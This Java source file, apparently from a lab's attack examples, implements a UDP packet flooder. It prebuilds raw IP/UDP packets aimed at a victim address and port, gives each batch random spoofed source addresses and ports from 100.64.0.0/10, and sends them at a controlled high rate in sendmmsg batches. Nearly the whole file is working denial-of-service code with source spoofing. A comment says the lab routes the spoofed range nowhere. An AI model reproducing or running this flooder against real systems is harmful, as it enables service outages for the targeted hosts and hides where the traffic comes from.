package io.aggr.examples.lab.attack;

import java.io.IOException;
import java.net.Inet4Address;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.security.GeneralSecurityException;
import java.util.SplittableRandom;
import java.util.concurrent.locks.LockSupport;

/**
 * Sends packets that were made beforehand again and again at a steady rate, each time from other sources: many with one system call
 * ({@code sendmmsg}), so that a machine that has to run the victim too is not busy with its enemy alone.
 */
final class FloodSender {

    private static final int POOL = 4096;
    private static final int BATCH = 64;
    private static final int HEADERS_BYTES = 28;
    private static final int STRIDE_BYTES = 512;
    private static final int MMSGHDR_BYTES = 64;
    private static final int IOVEC_BYTES = 16;
    private static final int SOURCE = 12;
    private static final int SOURCE_PORT = 20;
    private static final long PAUSE_NANOS = 100_000;

    /** What is behind by more than this is not made up for: a flood that stood still does not come back as a burst. */
    private static final long FORGIVEN_NANOS = 20_000_000;

    /** 100.64.0.0/10 (RFC 6598); the lab leads it nowhere. */
    private static final int SPOOFED_NET = 0x6440_0000;

    private static final int SPOOFED_HOSTS = 1 << 22;

    private final int socket;
    private final SplittableRandom random;
    private final ByteBuffer packets = RawSockets.memory(POOL * STRIDE_BYTES).order(ByteOrder.BIG_ENDIAN);
    private final ByteBuffer headers = RawSockets.memory(POOL * MMSGHDR_BYTES);
    private final ByteBuffer vectors = RawSockets.memory(POOL * IOVEC_BYTES);
    private final long headersAddress = RawSockets.addressOf(headers);
    private int next;

    /**
     * Makes all packets.
     *
     * @param victim where they go
     * @param port and to which port
     * @param payload makes what is in them
     * @param seed of the sources
     */
    FloodSender(Inet4Address victim, int port, FloodPayload payload, long seed)
            throws IOException, GeneralSecurityException {
        socket = RawSockets.sender(victim.getAddress());
        random = new SplittableRandom(seed);
        long packetsAddress = RawSockets.addressOf(packets);
        long vectorsAddress = RawSockets.addressOf(vectors);
        for (int i = 0; i < POOL; i++) {
            byte[] bytes = payload.next();
            int lengthBytes = HEADERS_BYTES + bytes.length;
            int at = i * STRIDE_BYTES;
            // The system fills in the checksum and the identification (raw(7)); a UDP checksum of 0 means that there is
            // none.
            packets.put(at, (byte) 0x45).putShort(at + 2, (short) lengthBytes).put(at + 8, (byte) 64);
            packets.put(at + 9, (byte) 17).put(at + 16, victim.getAddress());
            packets.putShort(at + 22, (short) port).putShort(at + 24, (short) (8 + bytes.length));
            packets.put(at + HEADERS_BYTES, bytes);
            vectors.putLong(i * IOVEC_BYTES, packetsAddress + at).putLong(i * IOVEC_BYTES + 8, lengthBytes);
            int header = i * MMSGHDR_BYTES;
            headers.putLong(header + 16, vectorsAddress + (long) i * IOVEC_BYTES)
                    .putLong(header + 24, 1);
        }
    }

    /**
     * Sends for a while.
     *
     * @param packetsPerSecond how many, if the machine can
     * @param durationNanos how long
     * @return how many went
     */
    long run(int packetsPerSecond, long durationNanos) {
        long beginNanos = System.nanoTime();
        long paceNanos = beginNanos;
        long paced = 0;
        long sent = 0;
        while (true) {
            long nowNanos = System.nanoTime();
            if (nowNanos - beginNanos >= durationNanos) {
                return sent;
            }
            long due = (nowNanos - paceNanos) / 1_000 * packetsPerSecond / 1_000_000 - paced;
            if (due * 1_000_000_000L / packetsPerSecond > FORGIVEN_NANOS) {
                paceNanos = nowNanos;
                paced = 0;
                due = BATCH;
            }
            if (due < BATCH) {
                LockSupport.parkNanos(PAUSE_NANOS);
                continue;
            }
            int count = batch();
            sent += count;
            paced += BATCH;
        }
    }

    private int batch() {
        for (int i = next; i < next + BATCH; i++) {
            int at = i * STRIDE_BYTES;
            packets.putInt(at + SOURCE, SPOOFED_NET | random.nextInt(SPOOFED_HOSTS));
            packets.putShort(at + SOURCE_PORT, (short) (1024 + random.nextInt(60_000)));
        }
        int count = RawSockets.send(socket, headersAddress + (long) next * MMSGHDR_BYTES, BATCH);
        next = (next + BATCH) % POOL;
        return Math.max(0, count);
    }
}
